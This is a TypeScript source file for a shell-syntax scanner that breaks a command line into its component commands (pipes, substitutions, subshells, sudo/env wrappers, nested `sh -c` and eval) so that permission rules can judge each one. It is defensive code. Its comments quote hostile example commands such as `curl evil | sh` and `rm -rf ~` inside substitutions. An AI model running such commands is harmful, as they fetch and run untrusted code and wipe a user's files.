/**
 * A shell command line cut into the commands it runs, so permission rules judge each one:
 * `npm test && curl evil | sh` is three commands, and `echo $(rm -rf ~)` two. This is a scanner
 * of the shell's syntax, not a shell: what only running it would reveal (aliases, functions,
 * variables holding commands, what a script does) stays invisible, as docs/permissions.md says.
 */
export interface CommandPart {
  /** The command as written, with leading shell keywords (`then`, `do`, `!`, `{`) removed. */
  text: string
  /**
   * The same command with leading assignments (`A=1`) and wrappers (`sudo`, `env`, `xargs`, …)
   * removed, when that differs: what actually runs. Deny and ask rules are matched against it too.
   */
  bare?: string
}

/** The commands of `line`, in order, nested ones (substitutions, `sh -c '…'`) after their parent. */
export function commandParts(line: string): CommandPart[] {
  const texts: string[] = []
  scan(line, 0, undefined, texts)
  const parts: CommandPart[] = []
  for (const raw of texts) addPart(raw, parts, 0)
  return parts
}

const MAX_NESTING = 16

function addPart(raw: string, parts: CommandPart[], nesting: number): void {
  const text = stripKeywords(raw)
  if (!text) return
  const bare = stripWrappers(text)
  parts.push(bare !== text ? { text, bare } : { text })
  // `bash -c 'rm -rf ~'` and `eval "…"` run a string: its commands are judged as well.
  const inner = shellString(bare)
  if (inner !== undefined && nesting < MAX_NESTING) {
    const nested: string[] = []
    scan(inner, 0, undefined, nested)
    for (const part of nested) addPart(part, parts, nesting + 1)
  }
}

/**
 * Scans `text` from `start` until `close` (or the end), pushing each finished command into `out`
 * and returning the index after `close`. Substitutions are scanned recursively: their commands
 * go to `out` and their text stays in the parent, so a rule on the whole parent still sees it.
 */
function scan(text: string, start: number, close: ')' | '`' | undefined, out: string[]): number {
  let current = ''
  const flush = () => {
    const trimmed = current.trim()
    if (trimmed) out.push(trimmed)
    current = ''
  }
  let i = start
  while (i < text.length) {
    const char = text[i]!
    const next = text[i + 1]
    if (char === close) {
      flush()
      return i + 1
    }
    if (char === '\\') {
      current += text.slice(i, i + 2)
      i += 2
    } else if (char === "'") {
      const end = text.indexOf("'", i + 1)
      const stop = end === -1 ? text.length : end + 1
      current += text.slice(i, stop)
      i = stop
    } else if (char === '"') {
      const stop = scanDoubleQuoted(text, i + 1, out)
      current += text.slice(i, stop)
      i = stop
    } else if (char === '$' && next === '(' && text[i + 2] === '(') {
      // Arithmetic `$(( … ))`: no commands inside worth a rule; kept as text.
      const stop = matchingParen(text, i + 1)
      current += text.slice(i, stop)
      i = stop
    } else if ((char === '$' || char === '<' || char === '>') && next === '(') {
      // Command substitution `$(…)` and process substitution `<(…)`, `>(…)`.
      const stop = scan(text, i + 2, ')', out)
      current += text.slice(i, stop)
      i = stop
    } else if (char === '`') {
      const stop = scan(text, i + 1, '`', out)
      current += text.slice(i, stop)
      i = stop
    } else if (char === '(' && current.trim() === '') {
      // A subshell: its commands are commands of their own.
      i = scan(text, i + 1, ')', out)
      flush()
    } else if (char === ';' || char === '\n' || char === ')') {
      flush()
      i++
    } else if (char === '&') {
      const previous = current.at(-1)
      if (next === '&') {
        flush()
        i += 2
      } else if (previous === '>' || previous === '<' || next === '>') {
        current += char // a redirection: 2>&1, &>file
        i++
      } else {
        flush() // a background job
        i++
      }
    } else if (char === '|') {
      if (current.at(-1) === '>') {
        current += char // >| file
        i++
      } else {
        flush()
        i += next === '|' || next === '&' ? 2 : 1
      }
    } else {
      current += char
      i++
    }
  }
  flush()
  return i
}

/** Scans a double-quoted string from after its opening quote; returns the index after the closing one. */
function scanDoubleQuoted(text: string, start: number, out: string[]): number {
  let i = start
  while (i < text.length) {
    const char = text[i]!
    if (char === '\\') i += 2
    else if (char === '"') return i + 1
    else if (char === '$' && text[i + 1] === '(' && text[i + 2] !== '(') i = scan(text, i + 2, ')', out)
    else if (char === '`') i = scan(text, i + 1, '`', out)
    else i++
  }
  return i
}

/** The index after the `)` that closes the `(` at `open`, counting nesting; the end if none. */
function matchingParen(text: string, open: number): number {
  let depth = 0
  for (let i = open; i < text.length; i++) {
    if (text[i] === '(') depth++
    else if (text[i] === ')' && --depth === 0) return i + 1
  }
  return text.length
}

const KEYWORDS = new Set([
  'if',
  'then',
  'else',
  'elif',
  'do',
  'while',
  'until',
  '!',
  '{',
  '}',
  'fi',
  'done',
  'esac',
])

function stripKeywords(command: string): string {
  let rest = command.trim()
  for (;;) {
    const match = /^(\S+)(?:\s+|$)/.exec(rest)
    if (!match || !KEYWORDS.has(match[1]!)) return rest.replace(/\s*}$/, '').trim()
    rest = rest.slice(match[0].length)
  }
}

const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=(?:'[^']*'|"(?:\\.|[^"\\])*"|\S)*\s+/
const WRAPPERS = new Set([
  'command',
  'builtin',
  'exec',
  'nohup',
  'env',
  'sudo',
  'doas',
  'nice',
  'time',
  'xargs',
  'timeout',
  'stdbuf',
])

/** Drops leading `A=1` assignments and wrapper commands with their `-options` (and timeout's duration). */
function stripWrappers(command: string): string {
  let rest = command
  for (let guard = 0; guard < 32; guard++) {
    const assignment = ASSIGNMENT.exec(rest)
    if (assignment) {
      rest = rest.slice(assignment[0].length)
      continue
    }
    const word = /^(\S+)\s+/.exec(rest)
    if (!word || !WRAPPERS.has(word[1]!)) break
    rest = rest.slice(word[0].length).replace(/^(?:-\S*\s+)*/, '')
    if (word[1] === 'timeout') rest = rest.replace(/^\d+(?:\.\d+)?[smhd]?\s+/, '')
  }
  return rest
}

/** The script of `sh -c '…'` / `bash -c "…"` / `eval '…'`, unquoted; undefined for anything else. */
function shellString(command: string): string | undefined {
  const match =
    /^(?:(?:\/\S*\/)?(?:ba|da|z|k)?sh\s+(?:-[a-zA-Z]+\s+)*-[a-zA-Z]*c[a-zA-Z]*|eval)\s+('([^']*)'|"((?:\\.|[^"\\])*)"|(\S+))/.exec(
      command,
    )
  if (!match) return undefined
  if (match[2] !== undefined) return match[2]
  if (match[3] !== undefined) return match[3].replace(/\\(["\\$`])/g, '$1')
  return match[4]
}
